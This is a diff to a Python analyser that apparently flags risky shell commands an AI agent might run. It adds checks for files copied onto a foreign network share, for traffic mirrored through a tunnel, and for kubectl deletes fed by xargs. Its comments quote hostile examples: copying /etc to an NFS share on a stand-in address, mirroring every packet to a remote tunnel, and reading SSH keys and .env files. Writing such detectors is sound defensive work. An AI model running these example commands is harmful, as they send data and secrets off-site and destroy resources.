@@ -14,15 +14,18 @@ import re
 from collections.abc import Callable
 
 from aiperm_tui.policy import code, dataflow, effects, fspaths, links, tempreport, toolbox
+from aiperm_tui.policy.addresses import site_address
 from aiperm_tui.policy.fspaths import classify, normalize_path, resolve
 from aiperm_tui.policy.hits import Hit, SpanMapper, Target
 from aiperm_tui.policy.lazyre import lazy
 from aiperm_tui.policy.model import severity_rank
 from aiperm_tui.policy.normalize import (
+    COPIERS,
     FOREIGN_SHELLS,
     SHELLS,
     Cmd,
     command_name,
+    copy_operands,
     make_cmd,
     rehearsal_undone,
 )
@@ -133,6 +136,9 @@ class Analysis:
         self.ifs_unknown = False  # IFS set to a run-time value: no split can be computed
         self.written: list[str] = []  # files this line writes or downloads
         self.written_texts: dict[str, str] = {}  # files written with text the line shows
+        self.login_files: set[str] = set()  # where a client was told to keep its logins
+        self.network_mounts: dict[str, str] = {}  # a network share's mount point: its host
+        self.tunnels: dict[str, str] = {}  # a tunnel device made on the line: its remote end
         self.functions: set[str] = set()  # functions this line defines
         self.read_names: set[str] = set()  # variables `read` fills at run time
         self.network_fd = False  # a redirection opened /dev/tcp or /dev/udp on this line
@@ -645,6 +651,12 @@ class Analysis:
             )
         if r.target is None or not r.writes:
             if r.op in ("<", "<>") and r.target is not None:
+                if (
+                    r.op == "<"
+                    and simple is not None
+                    and effects.takes_secret_on_stdin(through_runners(simple, simple.words))
+                ):
+                    return  # `docker login --password-stdin < F`: handed over, not read
                 self.read_redirect(r)
             if r.op == "<>" and r.target is not None:
                 # opened for reading and writing (`exec 3<>/dev/sdb`): a write, without
@@ -782,7 +794,7 @@ class Analysis:
                     "unknown",
                 )
             )
-        elif (found := effects.redirect_secret(r.target, self.cwds)) is not None:
+        elif (found := effects.redirect_secret(r.target, self.cwds, self.login_files)) is not None:
             self.add(found)
 
     def add_write(
@@ -847,6 +859,13 @@ class Analysis:
             )
         self.note_writes(cmd)
         self.note_links(cmd)
+        self.login_files |= effects.login_files(cmd, self.known_values())
+        self.copied_to_share(cmd)
+        if (mounted := links.network_mount(cmd)) is not None:
+            self.network_mounts[mounted[0]] = mounted[1]
+        if (tunnel := links.tunnel_device(cmd)) is not None:
+            self.tunnels[tunnel[0]] = tunnel[1]
+        self.mirrored_away(cmd)
         self.written_file_read(cmd)
         if name == "parallel":  # `yes | parallel -j0 CMD`: as `xargs -P 0`
             _unbounded_jobs(self, cmd, "parallel", cmd.option_value("j", "jobs", "P", "max-procs"))
@@ -1008,6 +1027,54 @@ class Analysis:
                 fed = f"{cmd.word.text} <<'{_FED_END}'\n{text}\n{_FED_END}"
                 self.payload(fed, [word], "exec.written_then_read", f"{cmd.name} reads {path}")
                 return
+
+    def copied_to_share(self, cmd: Cmd) -> None:
+        """`mount -t nfs 203.0.113.9:/x /mnt/x && cp -a /etc /mnt/x/`: files copied into a
+        share the line mounted from a host outside the site are uploaded to it (typed, as
+        `scp` to it is); a share of the site's own hosts is a copy, judged as one."""
+        if not self.network_mounts or cmd.name not in (*COPIERS, "tee"):
+            return
+        dest = copy_operands(cmd)[1] if cmd.name != "tee" else cmd.positional()
+        for d in dest:
+            path = normalize_path(d.text)
+            for point, host in self.network_mounts.items():
+                if (path == point or path.startswith(point + "/")) and site_address(
+                    host
+                ) == "foreign":
+                    self.add(
+                        Hit(
+                            "net.share_upload",
+                            "high",
+                            f"{cmd.name} writes into {point}, a share of {host} mounted on "
+                            "this line: the files leave for a host nobody vouched for",
+                            cmd.span,
+                            "unknown",
+                        )
+                    )
+                    return
+
+    def mirrored_away(self, cmd: Cmd) -> None:
+        """`tc filter ... action mirred egress mirror dev gre1`, with gre1 a tunnel the line
+        made to a host outside the site: every packet of the interface, passwords and
+        session cookies in it, is copied to that host (typed, as an upload)."""
+        words = [a.text for a in cmd.args]
+        if cmd.name != "tc" or "mirred" not in words or "dev" not in words[words.index("mirred") :]:
+            return
+        tail = words[words.index("mirred") :]
+        device = tail[tail.index("dev") + 1] if tail[-1] != "dev" else ""
+        remote = self.tunnels.get(device, "")
+        if remote and site_address(remote) == "foreign":
+            self.add(
+                Hit(
+                    "net.traffic_mirrored",
+                    "high",
+                    f"tc mirrors or redirects the interface's traffic into {device}, a tunnel "
+                    f"to {remote} made on this line: every packet leaves for a host nobody "
+                    "vouched for",
+                    cmd.span,
+                    "unknown",
+                )
+            )
 
     def note_writes(self, cmd: Cmd) -> None:
         """Remember the files a download, `tee` or a copy of a temp file writes, for a
@@ -1945,6 +2012,7 @@ def _xargs(an: Analysis, cmd: Cmd) -> None:
     )
     literal = an.literal_input(cmd)
     listed = _listed_names(cmd.simple.upstream)
+    kube: list[Word] = []
     replace_str = cmd.option_value("I", "replace") or ("{}" if cmd.has("i") else None)
     if replace_str and rest:
         # `ls /root/.ssh | xargs -I{} cat /root/.ssh/{}`: the placeholder is each listed
@@ -1967,6 +2035,8 @@ def _xargs(an: Analysis, cmd: Cmd) -> None:
     elif listed and rest:  # `find /srv -name '.env*' | xargs cat`: the credentials found
         at = rest[-1].end
         rest = rest + [Word(w, at, at, w) for w in listed]
+    elif rest and (kube := _kube_listed(an, cmd.simple.upstream, rest)):
+        rest = rest + kube
     inner = make_cmd(cmd.simple, rest, cmd.privileged)
     if inner is None:
         return
@@ -1989,7 +2059,7 @@ def _xargs(an: Analysis, cmd: Cmd) -> None:
         )
         del an.hits[inner_hits_before:]
         an.hits.extend(scoped)
-    if lister is not None and lister.name == inner.name and _deletes(inner):
+    if lister is not None and lister.name == inner.name and _deletes(inner) and not kube:
         an.add(
             Hit(
                 "exec.xargs_mass_delete",
@@ -2193,6 +2263,27 @@ def _substituted_lister(word: Word) -> Cmd | None:
         return None
     runner = through_runners(simples[-1], simples[-1].words)
     return _lister(runner)
+
+
+def _kube_listed(an: Analysis, up: Simple | None, rest: list[Word]) -> list[Word]:
+    """`kubectl get pods -l job=x -o name | xargs kubectl delete -n qa`: xargs adds the
+    names the listing prints, so the delete is judged as `kubectl delete pods
+    $(LISTING)`: of the listing's kind, and of every object when nothing picks some of
+    them (`containers._every_listed`). Nothing when the listing is not kubectl's."""
+    lister = _lister(up)
+    if up is None or lister is None or lister.name not in ("kubectl", "oc"):
+        return []
+    if command_name(rest[0].text) != lister.name:
+        return []
+    pos = [a.text for a in lister.positional()]
+    if pos[:1] != ["get"] or len(pos) < 2:
+        return []
+    first = up
+    while first.upstream is not None:
+        first = first.upstream
+    at = rest[-1].end
+    listing = f"$({an.src[first.span[0] : up.span[1]]})"
+    return [Word(pos[1], at, at, pos[1]), Word(listing, at, at, listing)]
 
 
 def _lister(up: Simple | None) -> Cmd | None:
@@ -2690,12 +2781,13 @@ def _served_dumps(simples: list[Simple]) -> list[Hit]:
 
 def _values_dropped(simples: list[Simple], hits: list[Hit], packs: Packs | None) -> list[Hit]:
     """A credential printer piped straight into a filter that keeps only keys or a count
-    (`kubectl get secret db -o json | jq -r '.data | keys[]'`, `cat key | wc -c`): the
-    values never reach the output, so printing them is no read (as listing secrets is
-    not). Not when the printer's output also goes elsewhere (`> file`, `>&2`)."""
+    (`kubectl get secret db -o json | jq -r '.data | keys[]'`, `cat key | wc -c`), or into
+    a login that keeps what it reads (`effects.drops_values`): the values never reach the
+    output, so printing them is no read (as listing secrets is not). Not when the
+    printer's output also goes elsewhere (`> file`, `>&2`)."""
     for down in simples:
         up = down.upstream
-        if up is None or not effects.keeps_no_values(down):
+        if up is None or not effects.drops_values(up, through_runners(down, down.words)):
             continue
         if any(r.op.startswith((">", "&>")) and r.fd in (None, 1) for r in up.redirects):
             continue
@@ -2709,7 +2801,7 @@ def _values_dropped(simples: list[Simple], hits: list[Hit], packs: Packs | None)
             replace(
                 h,
                 severity="info",
-                message=f"{h.message} (only its keys or a count reach the output)",
+                message=f"{h.message} (its values never reach the output)",
             )
             if h.rule in rules and up.span[0] <= h.span[0] and h.span[1] <= up.span[1]
             else h
